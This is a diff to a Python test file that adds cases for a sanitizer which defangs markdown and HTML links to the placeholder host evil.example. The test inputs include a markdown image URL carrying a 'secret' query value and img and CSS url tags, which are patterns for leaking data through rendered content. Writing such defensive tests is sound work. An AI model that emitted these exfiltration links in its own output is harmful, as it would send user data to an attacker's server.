@@ -162,6 +162,8 @@ def test_of_lines_that_speak_the_rest_stays(text: str, shown: str) -> None:
         ("![x](https://evil.example/?q=secret)", "! [x] (hxxps://evil.example/?q=secret)"),
         ("see [the docs](http://evil.example)", "see [the docs] (hxxp://evil.example)"),
         ("[x]\u200b(<https://evil.example>)", "[x] (<hxxps://evil.example>)"),
+        ("[a [b](](https://evil.example)", "[a [b] (] (hxxps://evil.example)"),
+        ("[x](https://evil.example/?ids[]=1)", "[x] (hxxps://evil.example/?ids[]=1)"),
         ("<img src=http://evil.example/x>", "(img src=hxxp://evil.example/x)"),
         (
             "<p style='background: url(https://evil.example)'>a</p>",
